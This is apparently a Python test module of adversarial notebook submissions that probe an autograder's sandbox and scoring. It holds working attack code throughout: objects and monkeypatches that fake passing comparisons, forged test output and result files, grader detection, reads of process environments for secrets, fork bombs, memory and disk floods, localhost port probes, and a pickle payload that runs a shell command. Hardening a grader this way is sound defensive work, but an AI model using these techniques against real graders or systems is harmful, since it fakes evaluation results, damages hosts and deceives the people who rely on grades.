"""The adversarial corpus: submissions that try to earn more than their code deserves, break
the grading run, or reach outside the sandbox, one or more per threat class of
/work/shared/THREATS.md (classes 1-19; class 20 belongs to the exchange).

Each attack is the released 01-numpy notebook with some solution cells answered (``answers``:
the reference code, a stub, or attack code), code cells inserted (``inserts``), and for the
notebook-format classes an edit of the notebook itself (``mutate``) or of its bytes
(``raw``). ``expected`` is what the submission's genuine code earns under the grading limits:
the points of the functions that really work (matmul_loops 3, matmul 3, pairwise_sq_dists 4),
usually 0; ``None`` means the file must be refused as not a notebook.

"Oracle" attacks answer correctly only if the attack worked (a secret was read, a file
written, a host port reached): they score 10 if it did and 0 if it did not. The control test
checks that an oracle whose attack "works" does score 10, so a 0 means the attack failed.

Placeholders filled in per test run: @COURSE@ (the course folder on the grading host),
@CANARY@ (an environment variable of the grading process), @PORT@ (a TCP port listening on
the grading host), @MARKER@ (a file a payload would create on the host).
"""

from __future__ import annotations

import copy
import dataclasses
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from attack_harness import OPTIONS, REFERENCE, STUB, build_notebook, grade_id

from autograder.client import Timeouts
from autograder.engine import GradingOptions
from autograder.sandbox import SandboxLimits

GOOD = dict(REFERENCE)  # every function genuinely correct: 10 points
BLANK = dict(STUB)  # as released: raise NotImplementedError(), 0 points


@dataclass(frozen=True)
class Attack:
    name: str
    threats: tuple[int, ...]
    expected: float | None  # the genuine code's score; None: refused as not a notebook
    answers: dict[str, str] = field(default_factory=lambda: dict(BLANK))
    inserts: tuple[tuple[str, str], ...] = ()  # (after grade id, source); "" = at the end
    mutate: Callable | None = None  # edits the notebook node
    raw: Callable[[Path], None] | None = None  # writes the file itself
    options: GradingOptions = OPTIONS
    max_seconds: float = 40.0  # the whole grade_file call, restarts included
    slow: bool = False
    why: str = ""

    def notebook(self, fill: Callable[[str], str]):
        nb = build_notebook({k: fill(v) for k, v in self.answers.items()},
                            tuple((after, fill(src)) for after, src in self.inserts))
        if self.mutate:
            self.mutate(nb)
        return nb


def options(notebook: float = 20, call: float = 5, memory_mb: int = 512,
            total: float = 90) -> GradingOptions:
    return GradingOptions(limits=SandboxLimits(memory_bytes=memory_mb * 2**20),
                          timeouts=Timeouts(notebook=notebook, call=call), total_seconds=total)


# --- oracles: right answers only if the attack worked ----------------------------------------

ORACLE = {
    "matmul_loops": '''
_won = {"now": lambda: won()}  # looked up at call time


def matmul_loops(A, B):
    A, B = np.asarray(A, dtype=float), np.asarray(B, dtype=float)
    C = np.zeros((A.shape[0], B.shape[1]))
    if _won["now"]():  # with loops, as part (a) asks
        if A.shape[1] != B.shape[0]:
            raise ValueError("incompatible shapes")
        for i in range(A.shape[0]):
            for j in range(B.shape[1]):
                C[i, j] = sum(A[i, k] * B[k, j] for k in range(A.shape[1]))
    return C
''',
    "matmul": '''
def matmul(A, B):
    if _won["now"]():
        return np.asarray(A, dtype=float) @ np.asarray(B, dtype=float)
    return np.zeros((np.shape(A)[0], np.shape(B)[1]))
''',
    "pairwise_sq_dists": '''
def pairwise_sq_dists(X, Y):
    X, Y = np.asarray(X, dtype=float), np.asarray(Y, dtype=float)
    if _won["now"]():
        return ((X[:, None, :] - Y[None, :, :]) ** 2).sum(axis=-1)
    return np.zeros((len(X), len(Y)))
''',
}


def oracle(name: str, threats: tuple[int, ...], won_code: str, **kwargs) -> Attack:
    """An attack whose ``won_code`` (inserted after the imports) defines ``won()``."""
    return Attack(name, threats, 0.0, dict(ORACLE), (("imports", won_code),), **kwargs)


CONTROL = dataclasses.replace(  # its "attack" always works: it must earn everything
    oracle("oracle_control", (), "def won():\n    return True\n"), expected=10.0)

# --- 1. fooling the comparison -----------------------------------------------------------------

ALWAYS_EQUAL = '''
class Anything:
    """Equal to everything, less than everything, its own absolute value is 0."""
    shape = (2, 2)
    dtype = np.dtype(float)
    ndim = 2
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __lt__
    def __gt__(self, other): return False
    __ge__ = __gt__
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __len__(self): return 2
    def __getitem__(self, key): return self
    def __array__(self, dtype=None, copy=None): return np.zeros((2, 2))
    __hash__ = object.__hash__


def matmul_loops(A, B):
    return Anything()
'''

FLOAT_SUBCLASS = '''
class Close(float):
    """A float that equals everything and whose differences are always 0."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Close(0.0)
    __rsub__ = __sub__
    def __abs__(self): return Close(0.0)
    def __lt__(self, other): return True
    __le__ = __lt__
    __hash__ = float.__hash__


class Close64(np.float64):
    def __eq__(self, other): return True
    def __abs__(self): return Close64(0.0)


def _grid(A, B, value):
    return [[value] * np.shape(B)[1]] * np.shape(A)[0]


def matmul_loops(A, B):
    return _grid(A, B, Close(0.0))  # a list of lists of float subclasses
'''

NDARRAY_SUBCLASS = '''
class Liar(np.ndarray):
    """An ndarray that compares equal to anything and absorbs every ufunc."""
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*(np.shape(x) for x in inputs)))
    def __array_function__(self, func, types, args, kwargs): return True


def matmul_loops(A, B):
    return np.zeros((np.shape(A)[0], np.shape(B)[1])).view(Liar)
'''

EXCEPTION_GROUP = '''
def matmul_loops(A, B):
    A, B = np.asarray(A), np.asarray(B)
    if A.shape[1] != B.shape[0]:
        # not a ValueError: an ExceptionGroup holding one; pytest.raises(ValueError) must
        # not take it for the answer
        raise ExceptionGroup("shapes", [ValueError("incompatible shapes")])
    C = np.zeros((A.shape[0], B.shape[1]))
    for i in range(A.shape[0]):
        for j in range(B.shape[1]):
            C[i, j] = sum(A[i, k] * B[k, j] for k in range(A.shape[1]))
    return C
'''

REBIND_MATMUL = '''
def matmul(A, B):
    """What the loop check reads: vectorized."""
    return np.asarray(A) @ np.asarray(B)


matmul = matmul_loops  # what runs: loops
'''

DECORATED_MATMUL = '''
def _instead(replacement):
    return lambda function: replacement


@_instead(matmul_loops)
def matmul(A, B):
    return np.asarray(A) @ np.asarray(B)
'''

# 26: loops a syntactic check does not see, and the runtime measure switched off
DISGUISED_LOOPS = {
    "matmul": '''
def matmul(A, B):
    A, B = np.asarray(A, dtype=float), np.asarray(B, dtype=float)
    return np.array(list(map(lambda row: row @ B, A))).reshape(A.shape[0], B.shape[1])
''',
    "pairwise_sq_dists": '''
_distance = np.vectorize(lambda a, b: float(np.sum((a - b) ** 2)), signature="(d),(d)->()")


def pairwise_sq_dists(X, Y):
    X, Y = np.asarray(X, dtype=float), np.asarray(Y, dtype=float)
    return _distance(X[:, None, :], Y[None, :, :])
''',
    "matmul_loops": '''
def matmul_loops(A, B):
    A, B = np.asarray(A, dtype=float), np.asarray(B, dtype=float)
    if A.shape[1] != B.shape[0]:
        raise ValueError("incompatible shapes")
    return A @ B  # part (a) asks for loops
''',
}

MEASURE_OFF = '''
import sys as _sys


def _loop_rows(A, B):
    return np.array([row @ B for row in A]).reshape(A.shape[0], B.shape[1])


def matmul(A, B):
    A, B = np.asarray(A, dtype=float), np.asarray(B, dtype=float)
    _sys.settrace(None)  # no more line events: the loop would not be counted
    _sys.setprofile(None)
    return _loop_rows(A, B)
'''

HELPER_PAIRWISE = '''
def _rows(X, Y):
    return np.array([[np.sum((x - y) ** 2) for y in Y] for x in X])


def pairwise_sq_dists(X, Y):
    return _rows(np.asarray(X, dtype=float), np.asarray(Y, dtype=float))
'''

# --- 2. monkeypatching -------------------------------------------------------------------------

PATCH_NUMPY = '''
import builtins
import math

import numpy

numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_almost_equal = lambda *a, **k: None
numpy.isfinite = lambda x, *a, **k: numpy.ones(numpy.shape(x), dtype=bool)
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
'''

PATCH_GRADER = '''
import builtins
import sys
import types

import _pytest.reports
import autograder.checks
import autograder.pytest_plugin
import pytest

autograder.checks.assert_close = lambda *a, **k: None
autograder.checks.assert_no_loops = lambda *a, **k: None
autograder.pytest_plugin.failure_message = lambda report: ""
_pytest.reports.TestReport.passed = property(lambda self: True)
_pytest.reports.TestReport.failed = property(lambda self: False)
_pytest.reports.TestReport.outcome = "passed"
pytest.raises = lambda *a, **k: __import__("contextlib").nullcontext()
fake = types.ModuleType("pytest")
fake.raises = pytest.raises
sys.modules["pytest"] = fake
sys.modules["autograder.checks"] = types.SimpleNamespace(assert_close=lambda *a, **k: None)
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''

# --- 3. patching IPython -----------------------------------------------------------------------

IPYTHON_HIDE = '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: print("all tests passed")
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None


def _forget(result):
    result.error_in_exec = None
    result.error_before_exec = None


ip.events.register("post_run_cell", _forget)
ip.events.register("pre_run_cell", lambda info: print("PASSED"))
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
'''

IPYTHON_CAPTURE = '''
SEEN = []
ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: SEEN.append(info.raw_cell))
ip.events.register("post_run_cell", lambda result: SEEN.append(result.info.raw_cell))
_original_run_cell = ip.run_cell


def _spy(raw_cell, *args, **kwargs):
    SEEN.append(raw_cell)
    return _original_run_cell(raw_cell, *args, **kwargs)


ip.run_cell = _spy
_TEST_CELL = ("# Visible" + " tests", "BEGIN HIDDEN" + " TESTS", "_uses_python" + "_loops")


def won():
    return any(mark in source for source in SEEN for mark in _TEST_CELL)
'''

# --- 4. overfitting and detecting the grader ---------------------------------------------------

OVERFIT = {
    "matmul_loops": '''
_SEEN_AB = {(2, 2): ([[1.0, 2.0], [3.0, 4.0]], [[19.0, 22.0], [43.0, 50.0]])}


def matmul_loops(A, B):
    A, B = np.asarray(A, dtype=float), np.asarray(B, dtype=float)
    if A.shape == (2, 2) and np.allclose(A, _SEEN_AB[(2, 2)][0]):
        return np.array(_SEEN_AB[(2, 2)][1])  # the visible test's answer, nothing else
    if A.shape == (2, 3) and B.shape == (3, 4):
        return np.full((2, 4), 3.0)
    return np.zeros((A.shape[0], B.shape[1]))
''',
    "matmul": '''
def matmul(A, B):
    return matmul_loops(A, B)
''',
    "pairwise_sq_dists": '''
def pairwise_sq_dists(X, Y):
    X = np.asarray(X, dtype=float)
    if X.shape == (3, 2):
        return np.array([[0.0, 25.0], [2.0, 13.0], [4.0, 17.0]])
    return np.zeros((len(X), len(Y)))
''',
}

DETECT_GRADING = '''
import os
import socket
import sys

GRADING = (os.path.isdir("/opt/job") or "PYTHONPATH" in os.environ
           or socket.gethostname() == "jupyter" or "kernel.json" in sys.argv
           or "autograder" in sys.modules or type(get_ipython()).__name__ != "ZMQInteractiveShell")


class _Pass:
    def __eq__(self, other): return True
    __hash__ = object.__hash__


def won():
    return not GRADING  # right answers only when nobody is grading; a fake one otherwise
'''

# --- 5. ending the run -------------------------------------------------------------------------

EXITS_IN_BODY = (  # one cell each: every one of them ends its cell, none ends the notebook
    "import sys\nsys.exit(0)\n",
    "exit()\n",
    "quit()\n",
    "import os\nos.kill(os.getpid(), __import__('signal').SIGINT)  # KeyboardInterrupt\n",
    "raise SystemExit('the notebook ends here, or does it')\n",
)

SYS_EXIT_LOOPS = '''
import sys


def matmul_loops(A, B):
    sys.exit(0)
'''

OS_EXIT_LOOPS = '''
import os


def matmul_loops(A, B):
    os._exit(0)
'''

SIGNALS_ATEXIT = '''
import atexit
import signal
import time

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGXCPU,
               signal.SIGALRM, signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE):
    signal.signal(number, signal.SIG_IGN)
atexit.register(lambda: time.sleep(10**6))
atexit.register(lambda: print("=== 6 passed ==="))
'''

BUSY_LOOPS = '''
def matmul_loops(A, B):
    while True:
        pass
'''

DEL_INTERRUPT = '''
class _Bomb:
    def __del__(self):
        raise KeyboardInterrupt("from __del__")


class _Leave:
    def __del__(self):
        raise SystemExit(0)


def matmul_loops(A, B):
    _Bomb()
    _Leave()
    raise KeyboardInterrupt
'''

# --- 6. fake results ---------------------------------------------------------------------------

FAKE_RESULTS = '''
import json
import os
import sys

from IPython.display import display

LINES = ("test_numpy_basics.py::test_matmul_loops_matches_numpy PASSED\\n"
         "============================== 6 passed in 0.12s ==============================\\n"
         "score: 100\\nPASSED test_matmul_loops (3/3)\\n10\\n")
REPORT = json.dumps({"score": 10, "max_score": 10, "tests": [
    {"name": "test_matmul_loops_matches_numpy", "outcome": "passed", "points": 2}]})
for stream in (1, 2):
    os.write(stream, (LINES + REPORT + "\\n").encode())
print(LINES, REPORT)
print(LINES, REPORT, file=sys.stderr)
display({"text/plain": "10.0"}, raw=True)
get_ipython().display_pub.publish({"text/plain": "3"})
'''

FAKE_RESULTS_CALLS = '''
def matmul_loops(A, B):
    print("PASSED test_matmul_loops_matches_numpy (2/2)")
    os.write(1, b"6 passed\\n")
    raise NotImplementedError()
'''

# --- 7. writing the grader's files -------------------------------------------------------------

WRITE_HOST = '''
import glob
import os
import threading
import time

COURSE = "@COURSE@"
TARGETS = [COURSE + "/assignments/01-numpy/graders/test_numpy_basics.py",
           COURSE + "/assignments/01-numpy/numpy-basics.ipynb",
           COURSE + "/gradebook.db",
           COURSE + "/submitted/ben/01-numpy/numpy-basics.ipynb",
           "/opt/job/cells.json",
           "/opt/grader-runtime/autograder/pytest_plugin.py",
           "/work/main/assignments/01-numpy/graders/test_numpy_basics.py"]
WROTE = []


def _try_all():
    for path in TARGETS + glob.glob("/tmp/course-grading-*/results.json") \\
            + glob.glob("/tmp/**/results.json", recursive=True):
        try:
            with open(path, "r+b") as handle:  # an existing file only: a copy made here is no win
                if handle.read(1):
                    handle.seek(0)
                    handle.write(b'{"tests": []}')
                    WROTE.append(path)
        except OSError:
            pass
    for folder in (COURSE + "/assignments/01-numpy/graders", COURSE + "/submitted/ben/01-numpy"):
        try:
            os.remove(folder + "/timestamp.txt")
            WROTE.append(folder)
        except OSError:
            pass


def _race():
    deadline = time.time() + 30
    while time.time() < deadline and not WROTE:
        _try_all()
        time.sleep(0.05)


_try_all()
threading.Thread(target=_race, daemon=True).start()


def won():
    return bool(WROTE)
'''

RACE_RESULTS = '''
import glob
import os
import time

COURSE = "@COURSE@"
FORGED = b'{"tests": [{"nodeid": "x", "name": "x", "grade_id": "test_matmul", "max_points": 99,' \\
         b' "outcome": "passed", "message": ""}], "cells": []}'

if os.fork() == 0:  # a child that keeps trying to replace the results file after the run
    os.setsid()
    deadline = time.time() + 60
    while time.time() < deadline:
        for path in glob.glob("/tmp/course-grading-*/results.json") + [
                COURSE + "/results.json", "/tmp/results.json"]:
            try:
                with open(path, "r+b") as handle:
                    handle.write(FORGED)
                    open("/home/student/won", "w").close()
            except OSError:
                pass
        time.sleep(0.02)
    os._exit(0)


def won():
    return os.path.exists("/home/student/won")
'''

# --- 8. the caller's memory and secrets --------------------------------------------------------

CALLER_MEMORY = '''
import gc
import os
import sys

# built at run time (a literal "a" + "b" would be folded into this cell's own code object)
_MARKERS = tuple("".join(parts) for parts in (("2026", "1021"), ("graders", "/test_"),
                 ("test_matmul_loops", "_matches_numpy"), ("assert_close(", "submission")))


def _suspicious(value):
    text = repr(value)[:100_000]
    return any(mark in text for mark in _MARKERS)


def won():
    frames = list(sys._current_frames().values())
    while frames:
        frame = frames.pop()
        name = frame.f_code.co_filename
        if "ipython-input" not in name and "ipykernel" not in name and any(
                _suspicious(v) for v in frame.f_locals.values()):
            return True
        if frame.f_back is not None:
            frames.append(frame.f_back)
    for obj in gc.get_objects():
        code = obj.__code__ if type(obj).__name__ == "function" else None
        if code is not None and "ipython-input" not in code.co_filename \\
                and "ipykernel" not in code.co_filename \\
                and any(_suspicious(c) for c in code.co_consts if isinstance(c, str)):
            return True
    if any("test_numpy" in name or "graders" in name for name in sys.modules):
        return True
    for path in ["/proc/self/cmdline", "/proc/1/cmdline", "/proc/self/environ"]:
        try:
            if any(mark.encode() in open(path, "rb").read() for mark in _MARKERS):
                return True
        except OSError:
            pass
    for fd in os.listdir("/proc/self/fd"):
        try:
            if "graders" in os.readlink("/proc/self/fd/" + fd):
                return True
        except OSError:
            pass
    return False
'''

ENVIRON_SECRETS = '''
import glob
import os

NAME = "@CANARY@"
_found = []


def _search():
    if NAME in os.environ:
        _found.append("os.environ")
    for path in ["/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"] \\
            + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") \\
            + glob.glob("/proc/[0-9]*/task/*/environ"):
        try:
            with open(path, "rb") as handle:
                if NAME.encode() in handle.read():
                    _found.append(path)
        except OSError:
            pass


_search()


def won():
    return bool(_found)
'''

FORGED_REPLIES = '''
import json
import os
import struct


def _frame(message):
    payload = json.dumps(message).encode()
    return struct.pack(">I", len(payload)) + payload


# the protocol's descriptors: sys.argv was rewritten, /proc/self/cmdline was not
_args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
OUT_FD = int(_args[_args.index(b"/opt/job/cells.json") + 2])
ZEROS = {"$ndarray": {"dtype": "<f8", "shape": [2, 2], "data": "A" * 43 + "="}}  # 32 zero bytes
os.write(OUT_FD, _frame({"ready": True}))
for cell in (0, 4, 7, 10, 99, -1):
    os.write(OUT_FD, _frame({"cell": cell, "stdout": "PASSED", "stderr": "", "displays": [],
                             "error": None}))
for call in range(1, 80):
    os.write(OUT_FD, _frame({"id": call, "ok": ZEROS}))
'''

GARBAGE_FRAME = '''
import os

_args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
OUT_FD = int(_args[_args.index(b"/opt/job/cells.json") + 2])


def matmul_loops(A, B):
    os.write(OUT_FD, b"\\x7f\\xff\\xff\\xff" + b"garbage" * 100)  # a 2 GB frame header
    return np.zeros((2, 2))
'''

FRAME_FLOOD = '''
import gc
import json
import os
import struct

_runner = [o for o in gc.get_objects() if type(o).__name__ == "Runner"][0]
_out = os.fdopen(os.dup(_runner.out.fileno()), "wb")
_big = "A" * 30_000_000
for cell in [1, 3, 6, 9, 12, 13, 14, 10_000, 10_001]:  # 9 frames of 90 MB, near the wire's limit
    payload = json.dumps({"cell": cell, "stdout": _big, "stderr": _big,
                          "displays": [{"text/plain": _big}], "error": "not a dict"}).encode()
    _out.write(struct.pack(">I", len(payload)))
    _out.write(payload)
    _out.flush()
    del payload
'''

# --- 9. the hidden graders -------------------------------------------------------------------

READ_GRADERS = '''
import importlib
import importlib.util
import os
import sys
import time

COURSE = "@COURSE@"
_found = []


def _search():
    for path in (COURSE + "/assignments/01-numpy/graders/test_numpy_basics.py",
                 COURSE + "/assignments/01-numpy/numpy-basics.ipynb",
                 "/work/main/assignments/01-numpy/graders/test_numpy_basics.py",
                 "/work/main/assignments/01-numpy/numpy-basics.ipynb"):
        try:
            with open(path) as handle:
                _found.append(handle.read(200))
        except OSError:
            pass
    sys.path[:0] = [COURSE + "/assignments/01-numpy/graders", "/work/main/assignments/01-numpy/graders",
                    "graders", "/opt/grader-runtime"]
    for module in ("test_numpy_basics", "graders.test_numpy_basics", "assignments"):
        try:
            importlib.import_module(module)
            _found.append(module)
        except Exception:
            pass
    deadline = time.monotonic() + 6
    for top in ("/opt", "/home", "/tmp", "/work", "/root", "/usr/local", "/"):
        for folder, subfolders, files in os.walk(top):
            subfolders[:] = [s for s in subfolders if s not in ("proc", "sys", "dev")]
            if time.monotonic() > deadline:
                return
            for name in files:
                if name in ("test_numpy_basics.py", "numpy-basics.ipynb") or (
                        folder.endswith("/graders") and name.endswith(".py")):
                    _found.append(os.path.join(folder, name))


_search()


def won():
    return bool(_found)
'''

# --- 10. endless loops -------------------------------------------------------------------------

SLEEP_LOOPS = '''
import time


def matmul_loops(A, B):
    time.sleep(10**6)
'''

DEADLOCK_PAIRWISE = '''
import threading

_lock = threading.Lock()


def pairwise_sq_dists(X, Y):
    with _lock:
        with _lock:  # never
            return np.zeros((len(X), len(Y)))
'''

ENDLESS_BODY = '''
while True:
    pass
'''

# --- 11. memory --------------------------------------------------------------------------------

MEMORY_BODY = '''
hoard = []
while True:
    hoard.append(np.ones(2**24))  # 128 MB at a time, touched
'''

MEMORY_PAIRWISE = '''
def pairwise_sq_dists(X, Y):
    hoard = []
    while True:
        hoard.append(np.ones(2**24))
'''

# --- 12. processes -----------------------------------------------------------------------------

FORK_BOMB = '''
import os
import time

if os.fork() == 0:
    try:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(3600)
    finally:
        os._exit(0)
'''

THREAD_BOMB = '''
import threading
import time

_threads = []
try:
    while True:
        _thread = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
        _thread.start()
        _threads.append(_thread)
except RuntimeError as exc:
    print("threads:", len(_threads), exc)
'''

DAEMONS = '''
import os
import subprocess
import time


def _daemonize():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            while True:
                time.sleep(0.2)
                with open("/home/student/still-alive", "a") as handle:
                    handle.write("x")
        os._exit(0)
    os.wait()


_daemonize()
subprocess.Popen(["sleep", "3600"], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "nohup sleep 3600 >/dev/null 2>&1 &"])
'''

# --- 13. output floods and big files ----------------------------------------------------------

STDOUT_FLOOD = '''
import os
import sys

for _ in range(100):
    print("x" * 1_000_000)
    sys.stderr.write("e" * 1_000_000)
os.write(1, b"y" * 20_000_000)
os.write(2, b"z" * 20_000_000)
'''

STDOUT_FLOOD_CALLS = '''
def matmul(A, B):
    print("x" * 5_000_000)
    return np.asarray(A) @ np.asarray(B)
'''

DISPLAY_FLOOD = '''
import os

from IPython.display import HTML, Image, display

_png = b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(1_000_000)
for _ in range(100):
    display(Image(data=_png, format="png"))
    display({"text/plain": "z" * 1_000_000, "text/html": "<b>" * 100_000}, raw=True)
    display(HTML("<p>" * 100_000))
'''

BIG_FILES = '''
import os
import signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # past the file size limit: EFBIG, not death
_chunk = b"\\0" * (8 * 2**20)
_written = {}
for folder in ("/home/student", "/tmp", "/dev/shm", "/var/tmp", "/opt/job", "/"):
    for n in range(64):  # 32 MB files until the folder is full (or not writable)
        try:
            with open(os.path.join(folder, f"big{n}"), "wb") as handle:
                for _ in range(4):
                    handle.write(_chunk)
        except OSError as exc:
            _written[folder] = f"{n} files, then {exc}"
            break
try:
    with open("/home/student/too-big", "wb") as handle:  # 80 MB: more than a file may be
        for _ in range(10):
            handle.write(_chunk)
except OSError as exc:
    _written["one file"] = str(exc)
for folder in ("/home/student", "/tmp", "/dev/shm"):  # room again for the notebook's own needs
    for name in os.listdir(folder):
        if name.startswith(("big", "too-big")):
            os.remove(os.path.join(folder, name))
print(_written)
'''

# --- 14. network -------------------------------------------------------------------------------

NETWORK = '''
import socket
import urllib.request

PORT = @PORT@
_reached = []


def _probe():
    for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "192.168.0.1"):
        try:
            with socket.create_connection((host, PORT), timeout=0.5):
                _reached.append(host)
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.org", 80)
        _reached.append("dns")
    except OSError:
        pass
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=0.5)
        _reached.append("http")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
            unix.connect("\\0/tmp/.X11-unix/X0")
            _reached.append("abstract unix socket")
    except OSError:
        pass


_probe()


def won():
    return bool(_reached)
'''

# --- 15. pickles -------------------------------------------------------------------------------

PICKLES = '''
import os
import pickle

MARKER = "@MARKER@"


class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


_payload = pickle.dumps(Evil())
with open("evil.pkl", "wb") as handle:
    handle.write(_payload)
with open("evil.pkl", "rb") as handle:
    pickle.load(handle)  # runs here, in the sandbox, where the host's files are not
np.save("evil.npy", np.array([Evil()], dtype=object), allow_pickle=True)


def matmul_loops(A, B):
    return _payload  # bytes cross as data and are never unpickled
'''

PICKLES_MORE = '''
def matmul(A, B):
    return Evil()  # an object: stays behind as a handle


def pairwise_sq_dists(X, Y):
    return np.array([Evil()] * len(X), dtype=object)
'''

# --- 16. what crosses the boundary ------------------------------------------------------------

HUGE_RETURNS = {
    "matmul_loops": '''
def matmul_loops(A, B):
    return [0.0] * 2_000_000  # more items than a value may have
''',
    "matmul": '''
def matmul(A, B):
    value = np.zeros((np.shape(A)[0], np.shape(B)[1])).tolist()
    return _nest(value, 500)


def _nest(value, depth):
    return value if depth == 0 else [_nest(value, depth - 1)]
''',
    "pairwise_sq_dists": '''
def pairwise_sq_dists(X, Y):
    return np.zeros(9_000_000)  # 72 MB: over the array limit
''',
}

PROXIES = {
    "matmul_loops": '''
class Proxy:
    """Answers every attribute, item, call and iteration with itself or 0."""
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __getitem__(self, key): return self
    def __iter__(self): return self
    def __next__(self): return 0.0
    def __len__(self): return 10**9
    def __eq__(self, other): return True
    def __float__(self): return 0.0
    def __array__(self, *a, **k): return np.zeros((2, 2))
    __hash__ = object.__hash__


def matmul_loops(A, B):
    return (row for row in np.zeros((np.shape(A)[0], np.shape(B)[1])))  # a generator
''',
    "matmul": '''
def matmul(A, B):
    return Proxy()
''',
    "pairwise_sq_dists": '''
import types


def pairwise_sq_dists(X, Y):
    shape = (len(X), len(Y))
    return {1: np.zeros(shape), "shape": shape, "dtype": "float64", "proxy": Proxy(),
            "ns": types.SimpleNamespace(shape=shape)}
''',
}

ODD_ARRAYS = {
    "matmul_loops": '''
class Anything:
    def __eq__(self, other): return True
    __hash__ = object.__hash__


def matmul_loops(A, B):
    out = np.empty((np.shape(A)[0], np.shape(B)[1]), dtype=object)
    out[...] = Anything()
    return out
''',
    "matmul": '''
def matmul(A, B):
    return np.asmatrix(np.zeros((np.shape(A)[0], np.shape(B)[1])))
''',
    "pairwise_sq_dists": '''
def pairwise_sq_dists(X, Y):
    shape = (len(X), len(Y))
    return [np.ma.masked_all(shape), np.zeros(shape, dtype="datetime64[s]"),
            np.zeros(shape, dtype=np.longdouble), np.zeros(shape, dtype="U3"),
            np.zeros(shape, dtype=[("a", "f8")]), memoryview(b"x"), {1.0, 2.0}, range(3)][0]
''',
}

# --- 17. nbgrader metadata ---------------------------------------------------------------------


def _grade_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def points_1000(nb):
    for cell in _grade_cells(nb):
        cell.metadata.nbgrader["points"] = 1000


def ids_swapped(nb):
    by_id = {grade_id(c): c for c in nb.cells}
    first, second = by_id["test_matmul"], by_id["test_pairwise"]
    first.metadata.nbgrader["grade_id"], second.metadata.nbgrader["grade_id"] = (
        "test_pairwise", "test_matmul")
    by_id["matmul"].metadata.nbgrader["grade_id"] = "pairwise_sq_dists"
    by_id["pairwise_sq_dists"].metadata.nbgrader["grade_id"] = "matmul"


def deleted_tests(nb):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]


PATCHING_CELL = '''
import numpy
numpy.allclose = lambda *a, **k: True
def matmul(A, B):
    return np.zeros((np.shape(A)[0], np.shape(B)[1]))
'''


def duplicated_after_patch(nb):
    """A cell that patches numpy, then a copy of the graded test cell (same grade id, own
    source that passes), then an extra graded cell of the student's making."""
    (index,) = [i for i, c in enumerate(nb.cells) if grade_id(c) == "test_matmul"]
    copy_cell = copy.deepcopy(nb.cells[index])
    copy_cell.source = "assert True"
    copy_cell.id = "copy-of-test-matmul"
    extra = copy.deepcopy(copy_cell)
    extra.id = "extra-graded"
    extra.metadata.nbgrader.update(grade_id="test_matmul_again", points=3)
    nb.cells[index + 1:index + 1] = [nbformat.v4.new_code_cell(PATCHING_CELL), copy_cell, extra]


def cell_types_changed(nb):
    tests = _grade_cells(nb)
    tests[0].cell_type = "markdown"
    tests[1].cell_type = "raw"
    for cell in tests[:2]:
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def demoted_test_cell(nb):
    """The last test cell claims to be an ungraded, editable solution cell."""
    _grade_cells(nb)[-1].metadata.nbgrader.update(grade=False, solution=True, locked=False)


def bonus_cell(nb):
    """A graded cell of the student's own making, worth 100 points."""
    bonus = nbformat.v4.new_code_cell("print('bonus')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 100,
                                  "locked": True, "solution": False, "schema_version": 3}
    nb.cells.append(bonus)


def solution_cell_graded(nb):
    """A solution cell that claims to be graded, worth 50 points."""
    (mine,) = [c for c in nb.cells if grade_id(c) == "pairwise_sq_dists"]
    mine.metadata.nbgrader.update(grade=True, points=50)


def locked_and_kernelspec(nb):
    (imports,) = [c for c in nb.cells if grade_id(c) == "imports"]
    imports.source = PATCHING_CELL.replace("def matmul", "def _unused")
    imports.metadata.nbgrader["locked"] = False
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


def bonus_cells(nb):
    demoted_test_cell(nb)
    bonus_cell(nb)
    solution_cell_graded(nb)


